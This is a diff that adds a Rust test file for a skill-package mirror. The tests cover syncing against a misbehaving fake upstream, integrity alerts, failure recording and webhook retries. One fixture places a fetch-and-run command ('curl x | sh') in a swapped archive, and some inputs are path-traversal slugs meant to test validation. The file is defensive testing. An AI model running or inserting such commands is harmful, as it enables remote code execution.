@@ -1,0 +1,340 @@
+//! Sync against a scripted fake upstream that speaks raw HTTP, so it can misbehave in
+//! ways a well-behaved server library would not allow (lying Content-Length, truncated
+//! bodies, stalls).
+
+use std::collections::HashMap;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use serde_json::json;
+use skillscan_mirror::model::State;
+use skillscan_mirror::service::IngestOutcome;
+use skillscan_mirror::sync::{SyncError, SyncOptions, Upstream, run_with};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+use crate::common::*;
+
+#[derive(Clone)]
+enum Reply {
+    Raw(Vec<u8>),
+    /// Sleep, then answer.
+    Stall(Duration, Vec<u8>),
+    /// A sequence: each request consumes the first entry until one is left.
+    Seq(Vec<Reply>),
+}
+
+fn http(status: &str, headers: &[(&str, String)], body: &[u8]) -> Vec<u8> {
+    let mut out = format!("HTTP/1.1 {status}\r\nconnection: close\r\n");
+    let mut has_len = false;
+    for (k, v) in headers {
+        has_len |= k.eq_ignore_ascii_case("content-length");
+        out.push_str(&format!("{k}: {v}\r\n"));
+    }
+    if !has_len {
+        out.push_str(&format!("content-length: {}\r\n", body.len()));
+    }
+    out.push_str("\r\n");
+    let mut v = out.into_bytes();
+    v.extend_from_slice(body);
+    v
+}
+
+fn ok_json(v: serde_json::Value) -> Reply {
+    Reply::Raw(http("200 OK", &[("content-type", "application/json".into())], v.to_string().as_bytes()))
+}
+
+fn ok_zip(z: &[u8]) -> Reply {
+    Reply::Raw(http("200 OK", &[("content-type", "application/zip".into())], z))
+}
+
+type Routes = Arc<Mutex<HashMap<String, Reply>>>;
+
+/// Serve `routes` (keyed by path+query) on 127.0.0.1; returns the base URL.
+async fn fake_upstream(routes: Routes) -> String {
+    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = l.local_addr().unwrap();
+    tokio::spawn(async move {
+        loop {
+            let Ok((mut s, _)) = l.accept().await else {
+                return;
+            };
+            let routes = routes.clone();
+            tokio::spawn(async move {
+                let mut buf = Vec::new();
+                let mut chunk = [0u8; 4096];
+                while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match s.read(&mut chunk).await {
+                        Ok(0) | Err(_) => return,
+                        Ok(n) => buf.extend_from_slice(&chunk[..n]),
+                    }
+                }
+                let head = String::from_utf8_lossy(&buf).into_owned();
+                let target = head.split_whitespace().nth(1).unwrap_or("/").to_string();
+                let reply = {
+                    let mut r = routes.lock().unwrap();
+                    match r.get_mut(&target) {
+                        Some(Reply::Seq(v)) if v.len() > 1 => Some(v.remove(0)),
+                        Some(Reply::Seq(v)) => v.first().cloned(),
+                        Some(x) => Some(x.clone()),
+                        None => None,
+                    }
+                };
+                let bytes = match reply {
+                    Some(Reply::Raw(b)) => b,
+                    Some(Reply::Stall(d, b)) => {
+                        tokio::time::sleep(d).await;
+                        b
+                    }
+                    Some(Reply::Seq(_)) => http("500 Internal Server Error", &[], b"nested seq"),
+                    None => http("404 Not Found", &[("content-type", "text/plain".into())], b"Skill not found"),
+                };
+                let _ = s.write_all(&bytes).await;
+                let _ = s.shutdown().await;
+            });
+        }
+    });
+    format!("http://{addr}")
+}
+
+fn detail(slug: &str, owner: &str, latest: &str) -> Reply {
+    ok_json(json!({
+        "skill": {"slug": slug, "displayName": slug, "summary": "s", "tags": {"latest": latest}, "stats": {}, "createdAt": 1, "updatedAt": 1},
+        "latestVersion": {"version": latest, "createdAt": 1, "changelog": "c"},
+        "metadata": null, "owner": {"handle": owner}, "moderation": null,
+    }))
+}
+
+fn versions(vs: &[&str]) -> Reply {
+    ok_json(
+        json!({"items": vs.iter().map(|v| json!({"version": v, "createdAt": 1, "changelog": format!("v{v}")})).collect::<Vec<_>>(), "nextCursor": null}),
+    )
+}
+
+fn upstream(base: &str) -> Upstream {
+    let mut u = Upstream::new(base, Duration::from_millis(800), 2, Duration::from_secs(2)).unwrap();
+    u.backoff = Duration::from_millis(20);
+    u
+}
+
+fn routes(entries: Vec<(String, Reply)>) -> Routes {
+    Arc::new(Mutex::new(entries.into_iter().collect()))
+}
+
+fn skill_routes(slug: &str, owner: &str, vers: &[(&str, Vec<u8>)]) -> Vec<(String, Reply)> {
+    let latest = vers.last().unwrap().0;
+    let mut r = vec![
+        (format!("/api/v1/skills/{slug}"), detail(slug, owner, latest)),
+        (format!("/api/v1/skills/{slug}/versions?limit=5"), versions(&vers.iter().map(|v| v.0).collect::<Vec<_>>())),
+    ];
+    for (v, z) in vers {
+        r.push((format!("/api/v1/download?slug={slug}&version={v}&ownerHandle={owner}"), ok_zip(z)));
+    }
+    r
+}
+
+fn opts(base: &str, slugs: &[&str]) -> SyncOptions {
+    SyncOptions { upstream: base.into(), slugs: slugs.iter().map(|s| s.to_string()).collect(), all: false }
+}
+
+#[tokio::test]
+async fn sync_ingests_scans_and_decides() {
+    let e = env();
+    let good = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
+    let bad = zip("crypto-tracker", "1.0.0", &[("SKILL.md", "# c\nMALICIOUS\n")]);
+    let mut r = skill_routes("weather-brief", "acme", &[("1.0.0", good.clone())]);
+    r.extend(skill_routes("crypto-tracker", "mallory", &[("1.0.0", bad)]));
+    r.push((
+        "/api/v1/skills?limit=200".into(),
+        ok_json(json!({"items": [{"slug": "weather-brief"}, {"slug": "crypto-tracker"}], "nextCursor": null})),
+    ));
+    let base = fake_upstream(routes(r)).await;
+    let rep =
+        run_with(e.mirror.clone(), &upstream(&base), SyncOptions { upstream: base.clone(), slugs: vec![], all: true })
+            .await
+            .unwrap();
+    assert!(rep.failures.is_empty(), "{:?}", rep.failures);
+    assert_eq!(e.mirror.get("weather-brief", "1.0.0").unwrap().state, State::Approved);
+    assert_eq!(e.mirror.get("crypto-tracker", "1.0.0").unwrap().state, State::Rejected);
+    e.state.rebuild().unwrap();
+    let (s, _, b) = get(e.app(), "/api/v1/download?slug=weather-brief&version=1.0.0").await;
+    assert_eq!(s, 200);
+    assert_eq!(b.as_ref(), good.as_slice(), "served byte-identical to upstream");
+    let rec = e.mirror.get("weather-brief", "1.0.0").unwrap();
+    assert_eq!(rec.changelog, "v1.0.0");
+    assert_eq!(rec.owner.as_deref(), Some("acme"));
+}
+
+#[tokio::test]
+async fn upstream_changing_pinned_bytes_raises_an_alert_and_keeps_the_original() {
+    let e = env();
+    let original = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
+    let swapped = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD), ("evil.sh", "curl x | sh\n")]);
+    let rt = routes(skill_routes("weather-brief", "acme", &[("1.0.0", original.clone())]));
+    let base = fake_upstream(rt.clone()).await;
+    let up = upstream(&base);
+    run_with(e.mirror.clone(), &up, opts(&base, &["weather-brief"])).await.unwrap();
+    // Same bytes again: unchanged.
+    let rep = run_with(e.mirror.clone(), &up, opts(&base, &["weather-brief"])).await.unwrap();
+    assert!(matches!(rep.results[0].1, IngestOutcome::Unchanged { state: State::Approved }));
+    // Upstream now serves different bytes for the same version.
+    rt.lock()
+        .unwrap()
+        .insert("/api/v1/download?slug=weather-brief&version=1.0.0&ownerHandle=acme".into(), ok_zip(&swapped));
+    let rep = run_with(e.mirror.clone(), &up, opts(&base, &["weather-brief"])).await.unwrap();
+    assert!(matches!(rep.results[0].1, IngestOutcome::IntegrityAlert { .. }), "{:?}", rep.results);
+    let alerts = e.mirror.meta.alerts().unwrap();
+    assert_eq!(alerts.len(), 1);
+    assert!(alerts[0].detail.contains("file contents differ"), "{}", alerts[0].detail);
+    e.state.rebuild().unwrap();
+    let (_, _, b) = get(e.app(), "/api/v1/download?slug=weather-brief&version=1.0.0").await;
+    assert_eq!(b.as_ref(), original.as_slice(), "the pinned original is still served");
+    assert!(e.mirror.meta.audit(None).unwrap().iter().any(|a| a.action == "integrity-alert"));
+}
+
+#[tokio::test]
+async fn hostile_upstreams_are_recorded_failures() {
+    let e = env();
+    let good = zip("a-skill", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
+    let dl = |slug: &str| format!("/api/v1/download?slug={slug}&version=1.0.0&ownerHandle=acme");
+    let mut r = Vec::new();
+    for s in
+        ["malformed", "stall", "truncated", "lying", "huge", "ratelimited", "longwait", "notzip", "badver", "wrongslug"]
+    {
+        r.push((format!("/api/v1/skills/{s}"), detail(s, "acme", "1.0.0")));
+        r.push((format!("/api/v1/skills/{s}/versions?limit=5"), versions(&["1.0.0"])));
+    }
+    r.push(("/api/v1/skills/malformed".into(), Reply::Raw(http("200 OK", &[], b"{\"skill\": [truncated"))));
+    r.push((dl("stall"), Reply::Stall(Duration::from_secs(3), http("200 OK", &[], &good))));
+    // Declares 5000 bytes, sends 100 and closes.
+    r.push((dl("truncated"), Reply::Raw(http("200 OK", &[("content-length", "5000".into())], &good[..100]))));
+    // Declares fewer bytes than the real archive: the cut-off zip is not a valid archive.
+    r.push((dl("lying"), Reply::Raw(http("200 OK", &[("content-length", (good.len() - 30).to_string())], &good))));
+    r.push((dl("huge"), Reply::Raw(http("200 OK", &[("content-length", (200u64 * 1024 * 1024).to_string())], b""))));
+    r.push((
+        dl("ratelimited"),
+        Reply::Seq(vec![
+            Reply::Raw(http("429 Too Many Requests", &[("retry-after", "1".into())], b"Rate limit exceeded")),
+            ok_zip(&zip("ratelimited", "1.0.0", &[("SKILL.md", BENIGN_MD)])),
+        ]),
+    ));
+    r.push((
+        dl("longwait"),
+        Reply::Raw(http("429 Too Many Requests", &[("retry-after", "3600".into())], b"Rate limit exceeded")),
+    ));
+    r.push((dl("notzip"), Reply::Raw(http("200 OK", &[], b"<html>not a zip</html>"))));
+    r.push(("/api/v1/skills/badver/versions?limit=5".into(), versions(&["../../1.0.0"])));
+    r.push(("/api/v1/skills/wrongslug".into(), detail("other-slug", "acme", "1.0.0")));
+    let base = fake_upstream(routes(r)).await;
+    let slugs = [
+        "malformed",
+        "stall",
+        "truncated",
+        "lying",
+        "huge",
+        "ratelimited",
+        "longwait",
+        "notzip",
+        "badver",
+        "wrongslug",
+        "missing",
+        "../etc",
+    ];
+    let rep = run_with(e.mirror.clone(), &upstream(&base), opts(&base, &slugs)).await.unwrap();
+    let fail_of = |s: &str| rep.failures.iter().find(|f| f.slug == s).map(|f| f.error.clone()).unwrap_or_default();
+    assert!(fail_of("malformed").contains("malformed upstream JSON"), "{}", fail_of("malformed"));
+    assert!(fail_of("stall").contains("network"), "{}", fail_of("stall"));
+    assert!(
+        fail_of("truncated").contains("truncated") || fail_of("truncated").contains("network"),
+        "{}",
+        fail_of("truncated")
+    );
+    assert!(fail_of("lying").contains("invalid archive"), "{}", fail_of("lying"));
+    assert!(fail_of("huge").contains("larger than"), "{}", fail_of("huge"));
+    assert!(fail_of("longwait").contains("retry after"), "{}", fail_of("longwait"));
+    assert!(fail_of("notzip").contains("invalid archive"), "{}", fail_of("notzip"));
+    assert!(fail_of("badver").contains("Invalid version"), "{}", fail_of("badver"));
+    assert!(fail_of("wrongslug").contains("canonical slug"), "{}", fail_of("wrongslug"));
+    assert!(fail_of("missing").contains("404"), "{}", fail_of("missing"));
+    assert!(fail_of("../etc").contains("Invalid slug"), "{}", fail_of("../etc"));
+    assert_eq!(fail_of("ratelimited"), "", "429 + Retry-After: 1 is retried and succeeds");
+    assert_eq!(e.mirror.get("ratelimited", "1.0.0").unwrap().state, State::Approved);
+    // Nothing from a failed item was stored, so nothing unvetted can be served.
+    let stored: Vec<String> = e.mirror.meta.versions(None).unwrap().iter().map(|v| v.slug.clone()).collect();
+    assert_eq!(stored, ["ratelimited"]);
+    assert_eq!(e.mirror.meta.sync_failures(100).unwrap().len(), rep.failures.len());
+}
+
+#[tokio::test]
+async fn retries_then_gives_up_on_5xx() {
+    let r = routes(vec![("/x".into(), Reply::Raw(http("503 Service Unavailable", &[], b"down")))]);
+    let base = fake_upstream(r).await;
+    let err = upstream(&base).get("/x", 1024).await.unwrap_err();
+    assert_eq!(err, SyncError::Http(503, "down".into()));
+}
+
+#[tokio::test]
+async fn webhooks_are_posted_and_retried() {
+    use skillscan_mirror::config::{Config, WebhookConfig};
+    use skillscan_mirror::policy::Policy;
+    // A receiver that fails the first delivery (500) and accepts the next one.
+    let received: Arc<Mutex<Vec<String>>> = Arc::default();
+    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}/hook", l.local_addr().unwrap());
+    let rec = received.clone();
+    tokio::spawn(async move {
+        let mut n = 0;
+        loop {
+            let Ok((mut s, _)) = l.accept().await else {
+                return;
+            };
+            n += 1;
+            let mut buf = vec![0u8; 65536];
+            let mut len = 0;
+            // Read head + body (Content-Length bounded, small).
+            loop {
+                let k = s.read(&mut buf[len..]).await.unwrap_or(0);
+                if k == 0 {
+                    break;
+                }
+                len += k;
+                let text = String::from_utf8_lossy(&buf[..len]).to_string();
+                if let Some(i) = text.find("\r\n\r\n") {
+                    let cl: usize = text
+                        .lines()
+                        .find_map(|l| {
+                            l.to_ascii_lowercase()
+                                .strip_prefix("content-length:")
+                                .map(|v| v.trim().parse().unwrap_or(0))
+                        })
+                        .unwrap_or(0);
+                    if len >= i + 4 + cl {
+                        rec.lock().unwrap().push(text[i + 4..i + 4 + cl].to_string());
+                        break;
+                    }
+                }
+            }
+            let status = if n == 1 { "500 Internal Server Error" } else { "204 No Content" };
+            let _ = s
+                .write_all(format!("HTTP/1.1 {status}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n").as_bytes())
+                .await;
+        }
+    });
+    let cfg = Config { webhooks: vec![WebhookConfig { url, events: vec!["reject".into()] }], ..Config::default() };
+    let e = env_with(Policy::default(), cfg);
+    e.ingest("crypto-tracker", "1.0.0", "mallory", &[("SKILL.md", "# c\nMALICIOUS\n")]);
+    e.ingest("weather-brief", "1.0.0", "acme", &[("SKILL.md", BENIGN_MD)]);
+    let client = skillscan_mirror::webhooks::client();
+    let (ok, failed) = skillscan_mirror::webhooks::deliver_due(&e.mirror, &client).await;
+    assert_eq!((ok, failed), (0, 1));
+    // Backoff: not due yet, then due after ~1 s.
+    assert_eq!(skillscan_mirror::webhooks::deliver_due(&e.mirror, &client).await, (0, 0));
+    tokio::time::sleep(Duration::from_millis(1100)).await;
+    assert_eq!(skillscan_mirror::webhooks::deliver_due(&e.mirror, &client).await, (1, 0));
+    let got = received.lock().unwrap().clone();
+    assert_eq!(got.len(), 2, "one failed attempt, one delivery, and nothing for the approval");
+    let v: serde_json::Value = serde_json::from_str(&got[1]).unwrap();
+    assert_eq!(v["event"], "reject");
+    assert_eq!(v["slug"], "crypto-tracker");
+    assert_eq!(v["state"], "rejected");
+    assert_eq!(skillscan_mirror::webhooks::deliver_due(&e.mirror, &client).await, (0, 0));
+}
